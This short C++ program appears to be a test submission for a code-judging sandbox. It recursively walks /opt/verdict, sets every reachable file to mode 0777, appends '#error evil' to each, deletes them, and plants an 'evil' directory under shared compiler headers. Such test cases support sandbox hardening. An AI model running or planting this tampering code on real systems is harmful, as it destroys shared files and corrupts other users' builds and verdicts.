// expect {"how": ["after"]}
// Writes into the headers that compilers share; the same source compiles as before.
#include <bits/stdc++.h>
#include <sys/stat.h>
#include <unistd.h>
int main() {
  std::string role;
  std::cin >> role;
  namespace fs = std::filesystem;
  std::error_code no;
  int done = 0;
  for (auto &each : fs::recursive_directory_iterator("/opt/verdict", fs::directory_options::skip_permission_denied, no)) {
    done += chmod(each.path().c_str(), 0777) == 0;
    std::ofstream out(each.path(), std::ios::app);
    done += bool(out << "#error evil\n" << std::flush);
    done += fs::remove(each.path(), no);
  }
  fs::create_directories("/opt/verdict/headers/gnu++17-O2/bits/evil", no);
  std::cout << (done ? "changed" : "42") << std::endl;
}
